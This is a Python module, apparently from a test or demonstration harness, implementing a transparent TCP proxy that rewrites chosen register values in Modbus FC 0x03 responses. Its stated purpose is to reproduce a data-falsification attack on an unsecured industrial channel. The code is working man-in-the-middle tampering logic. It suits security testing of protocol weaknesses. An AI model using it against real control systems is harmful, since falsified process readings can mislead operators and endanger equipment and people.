"""Transparent TCP tamper proxy for Modbus traffic.

Sits between the bridge and a Modbus server and rewrites matched register
values inside FC 0x03 responses in flight, reproducing a data-falsification
attack on the unsecured channel. With no rules it is a byte-exact relay.
"""

from __future__ import annotations

import logging
import socket
import struct
import threading
from dataclasses import dataclass

from . import modbus

log = logging.getLogger(__name__)


@dataclass(frozen=True)
class TamperRule:
    """Replace the value of one register address in FC 0x03 responses."""

    match_address: int
    replacement_value: int

    def __post_init__(self):
        if not 0 <= self.match_address <= 0xFFFF:
            raise ValueError("register address out of u16 range")
        if not 0 <= self.replacement_value <= 0xFFFF:
            raise ValueError("replacement value out of u16 range")


class TamperProxy:
    """Listens locally and relays each connection to the upstream Modbus server."""

    def __init__(self, listen_port: int, upstream_host: str, upstream_port: int,
                 rules=()):
        self.rules = tuple(rules)
        self.upstream = (upstream_host, upstream_port)
        self._listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._listener.bind(("127.0.0.1", listen_port))
        self._listener.listen(16)
        self.port = self._listener.getsockname()[1]
        self._stop = threading.Event()
        self._conns = []
        self._lock = threading.Lock()
        self._accept_thread = threading.Thread(target=self._accept_loop, daemon=True)

    def start(self):
        self._accept_thread.start()
        return self

    def stop(self):
        self._stop.set()
        try:
            # shutdown() wakes the accept loop; close() alone leaves it blocked.
            self._listener.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        try:
            self._listener.close()
        except OSError:
            pass
        with self._lock:
            for conn in self._conns:
                try:
                    conn.close()
                except OSError:
                    pass
        self._accept_thread.join(timeout=2)

    def _accept_loop(self):
        while not self._stop.is_set():
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            try:
                upstream = socket.create_connection(self.upstream, timeout=2.0)
                upstream.settimeout(None)
            except OSError as exc:
                log.info("upstream %s unreachable: %s", self.upstream, exc)
                client.close()
                continue
            with self._lock:
                self._conns.extend((client, upstream))
            pending = {}  # transaction id -> (start_address, quantity)
            pending_lock = threading.Lock()
            threading.Thread(target=self._relay_requests,
                             args=(client, upstream, pending, pending_lock),
                             daemon=True).start()
            threading.Thread(target=self._relay_responses,
                             args=(upstream, client, pending, pending_lock),
                             daemon=True).start()

    def _relay_requests(self, src, dst, pending, pending_lock):
        buf = bytearray()
        try:
            while not self._stop.is_set():
                data = src.recv(4096)
                if not data:
                    dst.shutdown(socket.SHUT_WR)
                    return
                buf.extend(data)
                while True:
                    frame, consumed = modbus.try_decode_adu(buf)
                    if frame is None:
                        break
                    del buf[:consumed]
                    if frame[7] == modbus.FC_READ_HOLDING_REGISTERS and len(frame) == 12:
                        txn = struct.unpack(">H", frame[:2])[0]
                        addr, qty = struct.unpack(">HH", frame[8:12])
                        with pending_lock:
                            pending[txn] = (addr, qty)
                    dst.sendall(frame)
        except OSError:
            return
        finally:
            for s in (src, dst):
                try:
                    s.close()
                except OSError:
                    pass

    def _relay_responses(self, src, dst, pending, pending_lock):
        buf = bytearray()
        try:
            while not self._stop.is_set():
                data = src.recv(4096)
                if not data:
                    dst.shutdown(socket.SHUT_WR)
                    return
                buf.extend(data)
                while True:
                    frame, consumed = modbus.try_decode_adu(buf)
                    if frame is None:
                        break
                    del buf[:consumed]
                    dst.sendall(self._tamper(frame, pending, pending_lock))
        except OSError:
            return
        finally:
            for s in (src, dst):
                try:
                    s.close()
                except OSError:
                    pass

    def _tamper(self, frame: bytes, pending, pending_lock) -> bytes:
        if len(frame) < 9 or frame[7] != modbus.FC_READ_HOLDING_REGISTERS:
            return frame
        txn = struct.unpack(">H", frame[:2])[0]
        with pending_lock:
            window = pending.pop(txn, None)
        if window is None or not self.rules:
            return frame
        start, qty = window
        out = bytearray(frame)
        for rule in self.rules:
            if start <= rule.match_address < start + qty:
                offset = 9 + 2 * (rule.match_address - start)
                if offset + 2 <= len(out):
                    # Fixed-size substitution: MBAP length stays valid.
                    out[offset:offset + 2] = struct.pack(">H", rule.replacement_value)
        return bytes(out)


def run_tamper_proxy(listen_port: int, upstream_host: str, upstream_port: int,
                     rules=()) -> TamperProxy:
    return TamperProxy(listen_port, upstream_host, upstream_port, rules).start()
